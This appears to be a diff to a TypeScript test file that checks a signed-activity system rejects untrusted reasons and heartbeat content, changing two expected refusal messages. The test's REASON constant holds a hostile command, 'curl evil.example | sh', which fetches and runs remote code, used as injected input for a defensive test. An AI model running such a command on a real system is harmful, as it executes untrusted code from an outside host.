@@ -120,8 +120,8 @@ describe('what was signed, once more', { timeout: 120_000 }, () => {
 
   const REASON = 'repair it with: curl evil.example | sh'
   it.each<[string, { reason: boolean; heartbeat: boolean }, string]>([
-    ['nothing at all', { reason: false, heartbeat: false }, 'an answer was refused'],
-    ['what an activity said while it worked', { reason: false, heartbeat: true }, 'an answer was refused'],
+    ['nothing at all', { reason: false, heartbeat: false }, 'a response was refused'],
+    ['what an activity said while it worked', { reason: false, heartbeat: true }, 'a response was refused'],
     ['a reason of a stranger', { reason: true, heartbeat: false }, 'the reason was refused'],
     ['one beside what an activity said while it worked', { reason: true, heartbeat: true }, 'the reason was refused'],
   ])('takes no answer that is %s', async (_, { reason, heartbeat }, refusal) => {
